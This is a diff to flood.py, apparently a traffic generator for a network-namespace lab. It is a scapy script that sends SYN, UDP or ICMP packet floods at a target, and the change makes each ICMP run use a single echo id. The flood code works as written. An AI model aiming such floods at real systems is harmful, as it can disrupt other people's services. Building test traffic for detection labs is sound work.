@@ -4,6 +4,7 @@
   flood.py syn|udp|icmp TARGET PORT COUNT INTERVAL_S
 Sources stay the attacker namespace's own address so every flow is attributable.
 """
+import random
 import sys
 
 from scapy.all import ICMP, IP, TCP, UDP, RandShort, Raw, conf, send
@@ -19,7 +20,8 @@ def main():
     elif kind == 'udp':
         pkt = IP(dst=target) / UDP(sport=RandShort(), dport=port) / Raw(b'\x00' * 120)
     elif kind == 'icmp':
-        pkt = IP(dst=target) / ICMP(id=RandShort()) / Raw(b'X' * 256)
+        # One echo id per run, as ping/hping3 do: a run is one ICMP flow.
+        pkt = IP(dst=target) / ICMP(id=random.randint(1, 65535)) / Raw(b'X' * 256)
     else:
         raise SystemExit('unknown flood kind: ' + kind)
     send(pkt, count=count, inter=interval)
